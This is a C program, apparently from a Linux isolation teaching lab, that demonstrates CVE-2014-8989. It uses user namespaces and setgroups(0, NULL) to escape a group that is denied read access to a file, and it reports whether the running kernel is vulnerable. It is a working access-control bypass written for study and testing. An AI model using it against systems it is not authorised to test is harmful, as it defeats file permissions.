/* SPDX-License-Identifier: MIT */
/*
 * dropgroup.c - break-out: leave a group that is there to keep you out
 *
 * Usage:  dropgroup FILE     a file that your group, and nobody else, may not
 *                            read, such as -rw----r-- root:interns
 *         dropgroup          root only: make such a file and such a user
 *         dropgroup --here FILE
 *                            only setgroups(2) and open(2), where you are
 *
 * Groups usually give rights, and dropping one gives nothing.  With the mode
 * 0604 a group takes a right away: its members are refused what everybody else
 * may do.  setgroups(2) asks for CAP_SETGID, and in a user namespace everybody
 * has that.  Until Linux 3.19 this was a way out of any such group.
 *
 * Idea:   a user namespace must not give a right to take rights back
 * Calls:  setgroups(2); writing to /proc/PID/setgroups and gid_map
 * Needs:  a supplementary group; root has what it needs
 * Read:   user_namespaces(7), "The /proc/pid/setgroups file"; CVE-2014-8989
 * Test:   tests/graders/05-user-ns.c grades the exercise about this idea
 */
#include <fcntl.h>
#include <grp.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

#include "child.h"
#include "err.h"
#include "file.h"

enum { GROUP = 4242, USER = 54242 };

static void say(const char *what, int r)
{
	printf("  %-44s %s\n", what, r < 0 ? strerror(-r) : "yes");
	(void)fflush(stdout);
}

static int read_file(const char *path)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	int r = sysret(fd);

	if (fd >= 0)
		(void)close(fd);
	return r;
}

static int write_own(const char *file, unsigned inside, unsigned outside)
{
	char line[32];

	snprintf(line, sizeof(line), "%u %u 1", inside, outside);
	return file_write_at(AT_FDCWD, file, line);
}

/* The attack itself: two calls.  1 if it got through. */
static int attack(const char *path)
{
	int r = sysret(setgroups(0, NULL));

	say("setgroups(0, NULL)", r);
	r = read_file(path);
	say("read the file", r);
	return r == 0;
}

/* In a child each, as a map can be written only once. */
static int try_before_map(const char *path, unsigned uid, unsigned gid)
{
	(void)gid;
	say("uid_map", write_own("/proc/self/uid_map", 0, uid));
	return attack(path);
}

static int try_without_deny(const char *path, unsigned uid, unsigned gid)
{
	say("uid_map", write_own("/proc/self/uid_map", 0, uid));
	say("gid_map", write_own("/proc/self/gid_map", 0, gid));
	return attack(path);
}

static int try_with_deny(const char *path, unsigned uid, unsigned gid)
{
	say("uid_map", write_own("/proc/self/uid_map", 0, uid));
	say("\"deny\" to setgroups",
	    file_write_at(AT_FDCWD, "/proc/self/setgroups", "deny"));
	say("gid_map", write_own("/proc/self/gid_map", 0, gid));
	return attack(path);
}

static const struct {
	const char *title;
	int (*try)(const char *path, unsigned uid, unsigned gid);
} tries[] = {
	{ "a new user namespace, no group mapped", try_before_map },
	{ "the group mapped, as before Linux 3.19", try_without_deny },
	{ "the group mapped, as the kernel wants it", try_with_deny },
};

static int try_inside(size_t i, const char *path)
{
	pid_t child = fork();

	if (child < 0)
		return -errno;
	if (child == 0) {
		unsigned uid = geteuid();
		unsigned gid = getegid();

		if (unshare(CLONE_NEWUSER) < 0)
			die_hint(-errno, "try: isolab doctor",
				 "cannot make a user namespace");
		_exit(tries[i].try(path, uid, gid));
	}
	return child_wait(child);
}

static int try_all(const char *path)
{
	int out = 0;

	printf("before: an ordinary user\n");
	say("read the file", read_file(path));
	for (size_t i = 0; i < sizeof(tries) / sizeof(tries[0]); i++) {
		printf("%s\n", tries[i].title);
		(void)fflush(stdout);
		out |= try_inside(i, path) == 1;
	}
	printf(out ? "This kernel lets you out: CVE-2014-8989.\n"
		   : "This kernel keeps you in the group.\n");
	(void)fflush(stdout);
	return out;
}

/* A user who is in the group and, but for that, could read the file. */
static int make_scene(void)
{
	const gid_t group = GROUP;
	char path[] = "/tmp/dropgroup-XXXXXX";
	int fd = mkostemp(path, O_CLOEXEC);
	pid_t child;
	int status;

	if (fd < 0 || fchown(fd, 0, GROUP) < 0 || fchmod(fd, 0604) < 0)
		die(-errno, "cannot make a file");
	(void)close(fd);
	printf("%s is -rw----r-- of root and group %d, we are user %d with "
	       "that group\n",
	       path, GROUP, USER);
	(void)fflush(stdout);
	child = fork();
	if (child == 0) {
		if (setgroups(1, &group) < 0 ||
		    setresgid(USER, USER, USER) < 0 ||
		    setresuid(USER, USER, USER) < 0)
			die(-errno, "cannot become user %d", USER);
		/* The change cleared it, and /proc/self became root's. */
		(void)prctl(PR_SET_DUMPABLE, 1);
		_exit(try_all(path));
	}
	status = child < 0 ? -errno : child_wait(child);
	(void)unlink(path);
	return status;
}

int main(int argc, char *argv[])
{
	if (argc == 1 && geteuid() == 0)
		return make_scene() < 0 ? KIT_FAILED : KIT_OK;
	if (argc == 2 && argv[1][0] != '-') {
		(void)try_all(argv[1]);
		return KIT_OK;
	}
	if (argc == 3 && strcmp(argv[1], "--here") == 0) {
		(void)attack(argv[2]);
		return KIT_OK;
	}
	fprintf(stderr,
		"usage: %s FILE\n"
		"       %s             (as root)\n"
		"       %s --here FILE\n",
		argv[0], argv[0], argv[0]);
	return KIT_USAGE;
}
